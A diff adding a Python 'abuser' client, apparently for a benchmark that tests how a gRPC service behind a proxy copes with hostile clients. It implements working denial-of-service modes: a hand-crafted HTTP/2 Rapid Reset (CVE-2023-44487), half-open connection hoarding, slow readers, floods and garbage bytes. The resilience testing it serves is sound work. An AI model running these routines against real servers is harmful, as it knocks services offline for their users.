@@ -1,0 +1,201 @@
+"""A client that misbehaves: `python -m bench.faults.abuser ABUSE TARGET ADDRESS PORT SERVICE`, until SIGTERM.
+
+It notes nothing: what counts is what becomes of the others' calls.
+"""
+
+import argparse
+import asyncio
+import itertools
+import os
+import random
+import signal
+import sys
+from collections.abc import Awaitable, Callable
+from typing import Any
+
+from grpc import aio
+
+from bench.faults.calls import DOWNLOAD, ECHO, SHORT, STREAM, proto_service
+
+READERS = 40
+HALF_OPEN = 200
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+SETTINGS = bytes([0, 0, 0, 4, 0, 0, 0, 0, 0])
+FLOOD_OPEN = 2000
+"""The most calls that a flood keeps open, so that its own process stays small."""
+
+
+class Abuser:
+    """One abusive client.
+
+    Args:
+        target: What gRPC dials.
+        place: A proxy's address and port, for connections without gRPC.
+        service: The lab's service to call.
+        rate: Calls a second of a flood.
+
+    """
+
+    def __init__(self, target: str, place: tuple[str, int], service: str, rate: float) -> None:
+        self._target, self._place, self._rate = target, place, rate
+        self._path = f"/{proto_service(service)}/"
+        self._authority = target.rpartition("/")[2]
+
+    def _channel(self) -> Any:  # noqa: ANN401  # so that its calls, which nobody reads, need no types
+        unlimited = [("grpc.max_receive_message_length", -1), ("grpc.max_send_message_length", -1)]
+        return aio.insecure_channel(self._target, options=[*unlimited, ("grpc.use_local_subchannel_pool", 1)])
+
+    async def slow_reader(self) -> None:
+        """Open 40 downloads over one connection, and read none."""
+        channel = self._channel()
+        calls = [channel.unary_stream(self._path + DOWNLOAD)(b"") for _ in range(READERS)]
+        await asyncio.Event().wait()
+        del calls
+
+    async def big_answers(self) -> None:
+        """Send 8 MB and get them back, two calls at a time."""
+        channel, payload = self._channel(), bytes(8_000_000)
+
+        async def again() -> None:
+            while True:
+                await _unless_refused(channel.unary_unary(self._path + ECHO)(payload, timeout=20))
+
+        await asyncio.gather(again(), again())
+
+    async def cancelled_streams(self) -> None:
+        """Open streams and cancel each after a moment, 20 at a time."""
+        channel = self._channel()
+
+        async def again() -> None:
+            while True:
+                call = channel.unary_stream(self._path + STREAM)(b"")
+                await asyncio.sleep(random.uniform(0.01, 0.2))
+                call.cancel()
+
+        await asyncio.gather(*(again() for _ in range(20)))
+
+    async def flood(self) -> None:
+        """Call at `rate`, whatever becomes of the calls; each has a deadline of 5 s."""
+        channel, loop = self._channel(), asyncio.get_running_loop()
+        calls: set[asyncio.Task[None]] = set()
+        begin = loop.time()
+        for number in itertools.count():
+            await asyncio.sleep(max(0.0, begin + number / self._rate - loop.time()))
+            if len(calls) < FLOOD_OPEN:
+                call = channel.unary_unary(self._path + SHORT)(b"", timeout=5)
+                task = asyncio.create_task(_unless_refused(call))
+                calls.add(task)
+                task.add_done_callback(calls.discard)
+
+    async def rapid_resets(self) -> None:
+        """Open streams and reset each at once (CVE-2023-44487), 100 in one packet, 2,000 a second."""
+        while True:
+            with_connection = await self._connect()
+            if with_connection is None:
+                continue
+            reader, writer = with_connection
+            answers = asyncio.create_task(reader.read())  # Envoy must not wait for a reader
+            try:
+                for burst in itertools.count():
+                    frames = b"".join(self._reset(1 + 2 * (100 * burst + n)) for n in range(100))
+                    writer.write(frames)
+                    await asyncio.wait_for(writer.drain(), 5)
+                    await asyncio.sleep(0.05)
+                    if answers.done():
+                        break
+            except (OSError, TimeoutError):
+                pass
+            finally:
+                answers.cancel()
+                writer.close()
+
+    def _reset(self, stream: int) -> bytes:
+        """Return the HEADERS of a call and the RST_STREAM that follows."""
+        fields = (
+            (":method", "POST"),
+            (":scheme", "http"),
+            (":path", self._path + SHORT),
+            (":authority", self._authority),
+            ("content-type", "application/grpc"),
+        )
+        # Literals without an index (RFC 7541, 6.2.2); each text has less than 127 bytes.
+        block = b"".join(
+            b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
+            for name, value in fields
+        )
+        headers = len(block).to_bytes(3, "big") + b"\x01\x04" + stream.to_bytes(4, "big") + block
+        return (
+            headers + (4).to_bytes(3, "big") + b"\x03\x00" + stream.to_bytes(4, "big") + bytes([0, 0, 0, 8])
+        )
+
+    async def half_open(self) -> None:
+        """Keep 200 connections open that begin HTTP/2, and never send a call."""
+        opened = [await self._connect() for _ in range(HALF_OPEN)]
+        await asyncio.Event().wait()
+        del opened
+
+    async def garbage(self) -> None:
+        """Send bytes that are no HTTP/2, again and again: before the preface and after it."""
+        for number in itertools.count():
+            connection = await self._connect(bytes([random.randrange(256)]) if number % 2 else PREFACE)
+            if connection:
+                _, writer = connection
+                try:
+                    writer.write(os.urandom(4096))
+                    await asyncio.wait_for(writer.drain(), 5)
+                except (OSError, TimeoutError):
+                    pass
+                writer.close()
+            await asyncio.sleep(0.02)
+
+    async def _connect(
+        self, first: bytes = PREFACE + SETTINGS
+    ) -> tuple[asyncio.StreamReader, asyncio.StreamWriter] | None:
+        try:
+            reader, writer = await asyncio.wait_for(asyncio.open_connection(*self._place), 5)
+        except (OSError, TimeoutError):
+            await asyncio.sleep(0.05)
+            return None
+        writer.write(first)
+        return reader, writer
+
+
+async def _unless_refused(call: Awaitable[bytes]) -> None:
+    try:
+        await call
+    except aio.AioRpcError:
+        await asyncio.sleep(0)  # a refused call costs its client nothing
+
+
+ABUSES: dict[str, Callable[[Abuser], Awaitable[None]]] = {
+    "slow_reader": Abuser.slow_reader,
+    "big_answers": Abuser.big_answers,
+    "cancelled_streams": Abuser.cancelled_streams,
+    "flood": Abuser.flood,
+    "rapid_resets": Abuser.rapid_resets,
+    "half_open": Abuser.half_open,
+    "garbage": Abuser.garbage,
+}
+
+
+def main() -> None:
+    """Misbehave until SIGTERM."""
+    parser = argparse.ArgumentParser(description=__doc__)
+    parser.add_argument("abuse", choices=ABUSES)
+    parser.add_argument("target")
+    parser.add_argument("address")
+    parser.add_argument("port", type=int)
+    parser.add_argument("service")
+    parser.add_argument("--rate", type=float, default=400.0)
+    given = parser.parse_args()
+    signal.signal(signal.SIGTERM, lambda _signal, _frame: os._exit(0))
+    abuser = Abuser(given.target, (given.address, given.port), given.service, given.rate)
+    asyncio.run(_run(ABUSES[given.abuse](abuser)))
+
+
+async def _run(abuse: Awaitable[None]) -> None:
+    await abuse
+
+
+if __name__ == "__main__":
+    sys.exit(main())
